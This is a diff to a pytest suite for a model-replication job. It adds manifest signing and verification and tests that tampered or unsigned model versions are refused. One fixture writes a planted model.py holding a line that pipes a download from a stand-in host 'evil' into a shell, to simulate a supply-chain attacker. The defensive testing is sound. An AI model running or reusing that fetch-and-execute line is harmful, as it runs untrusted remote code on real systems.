@@ -13,16 +13,20 @@ from __future__ import annotations
 
 import os
 import random
+import shutil
 import subprocess
+import sys
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
+from mlplatform_client import signing
 
+from components import model_signature
 from components.model_sync import identity_aws, identity_azure, identity_gcp
-from components.model_sync.rclone import publish_script, sync_script
-from components.rclone import MARKER, Remote, azure_remote, gcs_remote, rclone_config, s3_remote
+from components.model_sync.rclone import MANIFESTS, fetch_manifests_script, publish_script, sync_script
+from components.rclone import MARKER, SIGNATURE, Remote, azure_remote, gcs_remote, rclone_config, s3_remote
 from tests.emulators.storage import AZURITE_ACCOUNT, Emulators, running_emulators, unknown_rclone_options
 
 REGION = "us-east-1"
@@ -38,6 +42,7 @@ class World:
     source: Remote
     replicas: list[Remote]
     kms_key: str
+    public_key: str
 
     def env(self, **extra: str) -> dict[str, str]:
         scrubbed = {
@@ -72,14 +77,33 @@ class World:
         return done.stdout
 
     def sync(self, **extra: str) -> subprocess.CompletedProcess[str]:
-        return self.run("sh", str(self.workdir / "sync.sh"), **extra)
+        """One CronJob run, step by step as its pod runs them, in a fresh directory (the pod's emptyDir): fetch the
+        source's markers and signatures (rclone), verify them (components/model_signature.py with the standard
+        library only: -I -S), then sync (rclone). Returns the sync's output after the verify step's lines."""
+        manifests = self.workdir / "manifests"
+        shutil.rmtree(manifests, ignore_errors=True)
+        manifests.mkdir()
+        fetched = self.run("sh", str(self.workdir / "fetch.sh"), **{MANIFESTS: str(manifests)})
+        assert fetched.returncode == 0, fetched.stderr
+        script = str(self.workdir / "model_signature.py")
+        verified = self.run(sys.executable, "-I", "-S", script, "tree", self.public_key, str(manifests))
+        assert verified.returncode == 0, verified.stderr
+        done = self.run("sh", str(self.workdir / "sync.sh"), **{MANIFESTS: str(manifests)}, **extra)
+        return subprocess.CompletedProcess(done.args, done.returncode, verified.stdout + done.stdout, done.stderr)
 
     def publish(self, version: str, files: dict[str, bytes]) -> None:
         local = self.workdir / "local" / version
         for name, data in files.items():
             (local / name).parent.mkdir(parents=True, exist_ok=True)
             (local / name).write_bytes(data)
-        done = self.run("sh", str(self.workdir / "publish.sh"), str(local), f"{self.source.root}/{version}")
+        done = self.run(
+            "sh",
+            str(self.workdir / "publish.sh"),
+            str(local),
+            f"{self.source.root}/{version}",
+            MODEL_SIGNING_KEY=str(self.workdir / "publisher.pem"),
+            MODEL_SIGNER=f"{sys.executable} -m mlplatform_client.signing",
+        )
         assert done.returncode == 0, done.stderr
 
     def sums(self, remote: Remote, version: str) -> dict[str, str]:
@@ -116,7 +140,11 @@ def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
         (workdir / "rclone.conf").write_text(rclone_config([source, *replicas]))
         (workdir / "sync.sh").write_text(sync_script(source, replicas))
         (workdir / "publish.sh").write_text(publish_script())
-        state = World(emulators, workdir, source, replicas, kms_key)
+        (workdir / "fetch.sh").write_text(fetch_manifests_script(source))
+        (workdir / "model_signature.py").write_text(model_signature.script())
+        private, public = signing.generate_key()
+        (workdir / "publisher.pem").write_bytes(private)
+        state = World(emulators, workdir, source, replicas, kms_key, public)
         state.rclone("mkdir", replicas[2].root)  # the Azure container (ModelBucket makes it in a cluster)
         yield state
 
@@ -131,7 +159,7 @@ def test_a_new_version_appears_in_every_bucket_with_the_same_checksums(world: Wo
     done = world.sync()
     assert done.returncode == 0, done.stdout + done.stderr
     expected = world.sums(world.source, "fraud-detection/v1")
-    assert MARKER in expected and len(expected) == 3
+    assert MARKER in expected and SIGNATURE in expected and len(expected) == 4
     for replica in world.replicas:
         assert world.sums(replica, "fraud-detection/v1") == expected, replica.name
         assert world.visible(replica) == {"fraud-detection/v1"}
@@ -163,7 +191,7 @@ def test_a_corrupted_copy_is_detected_and_repaired(world: World) -> None:
     assert done.returncode == 0, done.stdout + done.stderr
     assert [line.split("INFO  : ", 1)[1] for line in copied(done.stderr)] == [
         "fraud-detection/1/model.onnx: Copied (replaced existing)",
-        f"{MARKER}: Copied (new)",
+        f"{MARKER}: Copied (new)",  # the signature there is already the source's: rclone leaves it
     ]
     assert world.sums(replica, "fraud-detection/v1") == expected
 
@@ -201,6 +229,62 @@ def test_a_version_still_being_published_is_not_copied(world: World) -> None:
     assert "v3" not in done.stdout
     for replica in world.replicas:
         assert world.rclone("lsf", f"{replica.root}/fraud-detection/") == "v1/\nv2/\n", replica.name
+
+
+def plant(world: World, version: str, *, rewrite_manifest: bool) -> None:
+    """Someone who may write the primary but holds no signing key: a new model.py in a published version, and
+    (optionally) a manifest rewritten to match it, the old signature left in place."""
+    root = f"{world.source.root}/{version}"
+    planted = world.workdir / "planted.py"
+    planted.write_bytes(b"import os; os.system('curl evil | sh')\n")
+    world.rclone("copyto", str(planted), f"{root}/fraud-detection/1/model.py")
+    if rewrite_manifest:
+        manifest = world.workdir / "planted-manifest"
+        manifest.write_text(world.rclone("md5sum", root, "--exclude", f"/{MARKER}", "--exclude", f"/{SIGNATURE}"))
+        world.rclone("copyto", str(manifest), f"{root}/{MARKER}")
+
+
+def test_a_planted_model_with_a_rewritten_manifest_is_not_copied_anywhere(world: World) -> None:
+    world.publish("fraud-detection/v4", model(4, ["fraud-detection/config.pbtxt", "fraud-detection/1/model.onnx"]))
+    plant(world, "fraud-detection/v4", rewrite_manifest=True)
+    done = world.sync()
+    assert done.returncode == 1
+    said = done.stdout.splitlines()
+    assert said[0] == (
+        "verify-model: fraud-detection/v4: its manifest's signature does not verify with the stack's public key: "
+        "refused, not copied"
+    )
+    assert f"model-sync: {world.source.root} fraud-detection/v4: its manifest's signature" in done.stdout
+    for replica in world.replicas:
+        assert "fraud-detection/v4" not in world.visible(replica), replica.name
+        assert world.rclone("lsf", f"{replica.root}/fraud-detection/") == "v1/\nv2/\n", replica.name
+    world.rclone("purge", f"{world.source.root}/fraud-detection/v4")
+
+
+def test_an_unsigned_version_is_not_copied_anywhere(world: World) -> None:
+    local = world.workdir / "unsigned"
+    (local / "fraud-detection/1").mkdir(parents=True)
+    (local / "fraud-detection/1/model.onnx").write_bytes(random.Random(5).randbytes(1024))
+    done = world.run("sh", str(world.workdir / "publish.sh"), str(local), f"{world.source.root}/fraud-detection/v5")
+    assert done.returncode == 0, done.stderr
+    done = world.sync()
+    assert done.returncode == 1
+    assert "verify-model: fraud-detection/v5: it has no signature: refused, not copied" in done.stdout
+    for replica in world.replicas:
+        assert "fraud-detection/v5" not in world.visible(replica), replica.name
+    world.rclone("purge", f"{world.source.root}/fraud-detection/v5")
+
+
+def test_a_planted_file_under_a_signed_manifest_stays_at_the_source(world: World) -> None:
+    """The file changes but the signed manifest does not: the source no longer matches it, nothing is copied."""
+    world.publish("fraud-detection/v6", model(6, ["fraud-detection/config.pbtxt", "fraud-detection/1/model.onnx"]))
+    plant(world, "fraud-detection/v6", rewrite_manifest=False)
+    done = world.sync()
+    assert done.returncode == 1
+    assert f"{world.source.root} fraud-detection/v6: does not match its manifest, not copied" in done.stdout
+    for replica in world.replicas:
+        assert "fraud-detection/v6" not in world.visible(replica), replica.name
+    world.rclone("purge", f"{world.source.root}/fraud-detection/v6")
 
 
 def test_every_option_the_cronjob_and_this_test_use_is_an_option_of_rclone() -> None:
